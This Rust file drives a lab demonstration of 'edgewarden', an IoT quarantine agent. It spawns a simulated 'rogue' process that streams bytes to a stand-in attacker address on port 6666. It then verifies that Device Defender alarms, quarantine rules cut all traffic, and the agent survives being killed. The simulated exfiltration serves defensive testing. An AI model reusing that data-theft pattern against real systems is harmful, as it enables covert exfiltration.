//! What the demo shows, step by step.

use std::error::Error;
use std::time::{Duration, Instant};

use edgewarden_lab::site::{ATTACKER_V4, INTERNET_V4, Ns, Running, SiteError, lab_program, wait_until};
use edgewarden_lab::stage::paths::{Look, Paths};
use edgewarden_lab::stage::{PATIENCE, Stage, StageOptions, THING, copy_program};
use serde_json::{Value, json};

use super::timeline::Timeline;
use crate::workspace;

type Told<T = ()> = Result<T, Box<dyn Error + Send + Sync>>;

/// The alarm of the workshop's security profile.
const LIMIT_BYTES: u64 = 35_000;
/// Where sensor data and stolen data go.
const TELEMETRY_PORT: u16 = 9000;
const DROP_PORT: u16 = 6666;

/// Tells the whole story.
pub fn tell() -> Told {
    let mut timeline = Timeline::new();
    let mut stage = build(&mut timeline)?;
    let _telemetry = quiet(&mut timeline, &mut stage)?;
    let mut paths = before(&mut timeline, &stage)?;
    let (rogue, sink) = attack(&mut timeline, &stage)?;
    quarantine(&mut timeline, &mut stage)?;
    cut_off(&mut timeline, &mut stage, &mut paths, rogue, &sink)?;
    killed(&mut timeline, &mut stage)?;
    release(&mut timeline, &mut stage)?;
    Ok(timeline.end()?)
}

fn build(timeline: &mut Timeline) -> Told<Stage> {
    timeline.step("A site: a gateway, a device behind it, the internet before it; broker, cloud and nucleus");
    let root = workspace::root();
    let mut options = StageOptions::new(
        lab_program()?.with_file_name("edgewarden"),
        root.join("recipe.yaml"),
    );
    options.launch = true;
    options.configuration = json!({
        "development": {"reportIntervalSeconds": 4},
        "isolation": {"processes": [{"match": {"exe": "*/rogue"}, "action": "kill"}]},
    });
    options
        .cloud
        .extend(["--all-bytes-out".into(), LIMIT_BYTES.to_string()]);
    let stage = Stage::start(options)?;
    timeline.note("namespaces: gateway (wan0, lan0), internet, lan; mosquitto on 198.51.100.1:8883");
    timeline.note(
        "cloud: Device Shadow, Device Defender, Detect (aws:all-bytes-out less-than 35000), alarm Lambda",
    );
    timeline
        .note("nucleus: Greengrass IPC as nucleus lite speaks it; it runs the component as the recipe says");
    let started = stage
        .nucleus
        .find_event(PATIENCE, |e| e["event"] == "component" && e["state"] == "started")?;
    timeline.claim(
        true,
        &format!("the nucleus started io.edgewarden.Agent (pid {})", started["pid"]),
    );
    Ok(stage)
}

fn quiet(timeline: &mut Timeline, stage: &mut Stage) -> Told<[Running; 2]> {
    timeline.step("A quiet device: a sensor sends telemetry, the agent reports");
    let address = format!("{INTERNET_V4}:{TELEMETRY_PORT}");
    let log = |name: &str| stage.site.directory().join(name);
    let listen = format!("0.0.0.0:{TELEMETRY_PORT}");
    let sensor = log("opt/sensor");
    copy_program(&lab_program()?, &sensor)?;
    let telemetry = [
        lab(
            stage,
            Ns::Internet,
            &["sink", "--listen", &listen],
            &log("telemetry.log"),
        )?,
        stage.site.spawn(
            Ns::Gateway,
            &sensor,
            &["sensor", "--remote", &address],
            &[],
            log("sensor.log"),
        )?,
    ];
    stage.wait_phase(PATIENCE, "released")?;
    let report = next_report(stage, |report| report["bytesOut"].is_u64())?;
    let bytes = report["bytesOut"].as_u64().unwrap_or_default();
    timeline.claim(
        report["outcome"] == "accepted",
        &format!("Device Defender accepted report {}", report["reportId"]),
    );
    timeline.claim(
        bytes < LIMIT_BYTES,
        &format!("{bytes} bytes left the device: below {LIMIT_BYTES}, no alarm"),
    );
    let mut table = String::new();
    let shown = wait_until(PATIENCE, "the sensor in top", || {
        let answer = stage.edgewarden(&["top", "--once", "--rows", "3"]);
        table = answer.map(|(_, output, _)| output).unwrap_or_default();
        table.contains("opt/sensor (")
    });
    timeline.note("$ edgewarden top --once");
    timeline.note(&table);
    timeline.claim(shown.is_ok(), "the sensor's bytes are under the sensor's name");
    show_status(timeline, stage, "normal: nothing is cut")?;
    Ok(telemetry)
}

fn before(timeline: &mut Timeline, stage: &Stage) -> Told<Paths> {
    timeline.step("Control: before the quarantine everything flows");
    let mut paths = Paths::open(&stage.site)?;
    let look = Paths::look(&stage.site)?;
    let text = "every way is free: out, in and forwarded, TCP, UDP and ping, IPv4 and IPv6";
    timeline.claim(look.cut.is_empty(), &name(text, look.free.len(), &look.cut));
    let held = paths.use_held();
    timeline.claim(
        held.cut.is_empty(),
        &name(
            "an attacker holds open TCP connections",
            held.free.len(),
            &held.cut,
        ),
    );
    Ok(paths)
}

fn attack(timeline: &mut Timeline, stage: &Stage) -> Told<(Running, Running)> {
    timeline.step("A rogue process does what send_large_payload.sh does");
    let program = stage.site.directory().join("opt/rogue");
    copy_program(&lab_program()?, &program)?;
    let log = |name: &str| stage.site.directory().join(name);
    let listen = format!("{ATTACKER_V4}:{DROP_PORT}");
    let sink = lab(
        stage,
        Ns::Internet,
        &["sink", "--listen", &listen],
        &log("drop.log"),
    )?;
    sink.find_event(PATIENCE, |event| event["event"] == "listening")?;
    let args = [
        "rogue",
        "--remote",
        &listen,
        "--size",
        "5000",
        "--every-millis",
        "50",
        "--forever",
    ];
    let rogue = stage
        .site
        .spawn(Ns::Gateway, &program, &args, &[], log("rogue.log"))?;
    let sent = rogue.find_event(PATIENCE, |event| event["total"].as_u64() > Some(LIMIT_BYTES))?;
    timeline.claim(
        true,
        &format!(
            "{} (pid {}) has sent {} bytes",
            program.display(),
            rogue.pid(),
            sent["total"]
        ),
    );
    Ok((rogue, sink))
}

fn quarantine(timeline: &mut Timeline, stage: &mut Stage) -> Told {
    timeline.step("Report, alarm, Lambda, shadow, quarantine");
    let report = next_report(stage, |report| report["bytesOut"].as_u64() >= Some(LIMIT_BYTES))?;
    timeline.claim(
        report["outcome"] == "accepted",
        &format!(
            "report {} says {} bytes out",
            report["reportId"], report["bytesOut"]
        ),
    );
    let cloud = cloud(stage)?;
    let alarm = cloud.wait_event(PATIENCE, |event| {
        event["event"] == "alarm" && event["type"] == "in-alarm"
    })?;
    timeline.claim(
        true,
        &format!(
            "Detect: {} is in alarm",
            alarm["behavior"].as_str().unwrap_or("the behaviour")
        ),
    );
    cloud.wait_event(PATIENCE, |event| {
        event["event"] == "lambda" && event["action"] == "update-shadow"
    })?;
    timeline.claim(
        true,
        "the alarm Lambda moved the thing to group Quarantine and set desired.quarantine = true",
    );
    let ordered = Instant::now();
    cloud.wait_event(PATIENCE, |event| {
        event["event"] == "shadow" && event["reported"]["quarantine"] == true
    })?;
    let millis = ordered.elapsed().as_millis();
    timeline.claim(
        true,
        &format!("the device reports quarantine = true, {millis} ms later"),
    );
    timeline.claim(
        stage.has_table()?,
        "the kernel holds table inet edgewarden at that moment",
    );
    show_status(timeline, stage, "ISOLATED: proven")
}

fn cut_off(
    timeline: &mut Timeline,
    stage: &mut Stage,
    paths: &mut Paths,
    mut rogue: Running,
    sink: &Running,
) -> Told {
    timeline.step("Proof from outside the agent: what flows now?");
    let look = Paths::look(&stage.site)?;
    timeline.claim(
        look.free.is_empty(),
        &name(
            "every way is cut: out, in and forwarded, IPv4 and IPv6",
            look.cut.len(),
            &look.free,
        ),
    );
    let Look { free, cut } = paths.use_held();
    timeline.claim(
        free.is_empty(),
        &name("the attacker's open connections are dead", cut.len(), &free),
    );
    let status = rogue.wait_exit(PATIENCE)?;
    timeline.claim(!status.success(), &format!("the rogue is stopped ({status})"));
    let stolen = received(sink);
    let report = next_report(stage, |report| report["outcome"] == "accepted")?;
    timeline.claim(
        true,
        &format!(
            "MQTT lives: report {} was accepted through the closed firewall",
            report["reportId"]
        ),
    );
    timeline.claim(
        received(sink) == stolen,
        &format!("the attacker's total stands still at {stolen} bytes"),
    );
    let shadow = stage.wait_shadow(PATIENCE, "quarantine reported", |s| {
        s["state"]["reported"]["quarantine"] == true
    })?;
    timeline.note(&format!(
        "reported.quarantineStatus = {}",
        shadow["state"]["reported"]["quarantineStatus"]
    ));
    Ok(())
}

fn killed(timeline: &mut Timeline, stage: &mut Stage) -> Told {
    timeline.step("kill -9 of the agent");
    let starts = |event: &Value| event["event"] == "component" && event["state"] == "started";
    let pids: Vec<i64> = stage
        .nucleus
        .events()
        .iter()
        .filter(|e| starts(e))
        .filter_map(|e| e["pid"].as_i64())
        .collect();
    let pid = pids.last().copied().unwrap_or_default();
    std::process::Command::new("kill")
        .args(["-9", &pid.to_string()])
        .status()?;
    timeline.claim(
        stage.has_table()?,
        "without the agent the kernel still holds the rules",
    );
    stage.nucleus.find_event(PATIENCE, |event| {
        starts(event) && event["pid"].as_i64() != Some(pid)
    })?;
    stage.wait_phase(PATIENCE, "enforced")?;
    let look = Paths::look(&stage.site)?;
    timeline.claim(
        look.free.is_empty(),
        &name(
            "restarted by the nucleus and still isolated",
            look.cut.len(),
            &look.free,
        ),
    );
    Ok(())
}

fn release(timeline: &mut Timeline, stage: &mut Stage) -> Told {
    timeline.step("desired.quarantine = false");
    stage.desire(&json!({"quarantine": false}))?;
    stage.wait_shadow(PATIENCE, "release reported", |s| {
        s["state"]["reported"]["quarantine"] == false
    })?;
    timeline.claim(true, &format!("{THING} reports quarantine = false"));
    let look = Paths::look(&stage.site)?;
    timeline.claim(
        look.cut.is_empty(),
        &name("every way is free again", look.free.len(), &look.cut),
    );
    timeline.claim(!stage.has_table()?, "nothing of ours is left in the kernel");
    show_status(timeline, stage, "normal: nothing is cut")
}

fn show_status(timeline: &mut Timeline, stage: &Stage, expected: &str) -> Told {
    let (_, text, errors) = stage.edgewarden(&["status"])?;
    timeline.note("$ edgewarden status");
    timeline.note(&text);
    timeline.note(&errors);
    timeline.claim(
        text.contains(expected),
        &format!("the status says so: {expected:?}"),
    );
    Ok(())
}

fn next_report(stage: &mut Stage, wanted: impl Fn(&Value) -> bool) -> Told<Value> {
    Ok(cloud(stage)?.wait_event(PATIENCE, |event| event["event"] == "report" && wanted(event))?)
}

fn cloud(stage: &mut Stage) -> Told<&mut Running> {
    stage
        .cloud
        .as_mut()
        .ok_or_else(|| "the cloud does not run".into())
}

fn lab(stage: &Stage, ns: Ns, args: &[&str], log: &std::path::Path) -> Result<Running, SiteError> {
    stage.site.spawn(ns, lab_program()?, args, &[], log)
}

/// Everything the attacker has received.
fn received(sink: &Running) -> u64 {
    // A line may lag behind by its rate limit; the total can only be seen to stand still after that.
    std::thread::sleep(Duration::from_millis(500));
    sink.events()
        .iter()
        .filter(|event| event["event"] == "received")
        .filter_map(|event| event["total"].as_u64())
        .max()
        .unwrap_or_default()
}

fn name(claim: &str, count: usize, exceptions: &[&str]) -> String {
    if exceptions.is_empty() {
        format!("{claim} ({count})")
    } else {
        format!("{claim} — but not: {}", exceptions.join("; "))
    }
}
